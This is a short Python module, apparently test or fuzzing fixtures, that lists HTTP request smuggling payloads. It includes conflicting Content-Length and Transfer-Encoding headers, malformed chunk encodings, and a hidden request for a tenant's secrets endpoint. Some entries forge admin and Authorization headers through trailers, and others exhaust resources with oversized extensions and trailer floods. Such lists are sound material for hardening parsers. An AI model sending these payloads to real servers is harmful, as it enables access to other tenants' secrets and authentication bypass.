"""Ambiguous and malformed framing of HTTP bodies, to hide a second request in the first."""

BODY = b'{"metadata":{"name":"smuggled"}}'
HIDDEN = b"GET /tenants/{}/api/v1/secrets HTTP/1.1\r\nHost: x\r\n\r\n"
LENGTHS = {
    "length and chunks": b"Content-Length: 4\r\nTransfer-Encoding: chunked",
    "chunks and length": b"Transfer-Encoding: chunked\r\nContent-Length: 4",
    "two lengths": b"Content-Length: 5\r\nContent-Length: 200",
    "two lengths in a list": b"Content-Length: 5, 200",
    "a negative length": b"Content-Length: -1",
    "a signed length": b"Content-Length: +5",
    "a hexadecimal length": b"Content-Length: 0x5",
    "a length with an underscore": b"Content-Length: 1_0",
    "a length of other digits": b"Content-Length: \xd9\xa5",
    "a length of many digits": b"Content-Length: " + b"9" * 300,
    "a space before the colon": b"Transfer-Encoding : chunked\r\nContent-Length: 5",
    "unknown coding": b"Transfer-Encoding: xchunked",
    "chunked and something": b"Transfer-Encoding: chunked, identity",
    "chunked twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "chunked behind gzip": b"Transfer-Encoding: gzip, chunked",
    "a coding behind a line feed": b"X: a\nTransfer-Encoding: chunked\r\nContent-Length: 5",
    "a vertical tab": b"Transfer-Encoding: \x0bchunked\r\nContent-Length: 5",
    "a quoted coding": b'Transfer-Encoding: "chunked"\r\nContent-Length: 5',
    "NUL in a header": b"X-A: a\x00b\r\nContent-Length: 5",
    "a lone carriage return": b"X-A: a\rTransfer-Encoding: chunked\r\nContent-Length: 5",
}
CHUNKS = {
    "no number": b"zz\r\n" + BODY + b"\r\n0\r\n\r\n",
    "a negative size": b"-1\r\n" + BODY,
    "a huge size": b"ffffffffffffffffff\r\n" + BODY,
    "a size with a sign": b"+20\r\n" + BODY + b"\r\n0\r\n\r\n",
    "a size with 0x": b"0x20\r\n" + BODY + b"\r\n0\r\n\r\n",
    "a long extension": b"20;" + b"a" * 100_000 + b"\r\n" + BODY + b"\r\n0\r\n\r\n",
    "no end of a chunk": b"20\r\n" + BODY + b"0\r\n\r\n",
    "trailers without end": b"20\r\n" + BODY + b"\r\n0\r\n" + b"A: b\r\n" * 20_000,
    "trailers that forge": b"20\r\n"
    + BODY
    + b"\r\n0\r\nX-Remote-User: admin\r\nAuthorization: Bearer x\r\n\r\n",
}
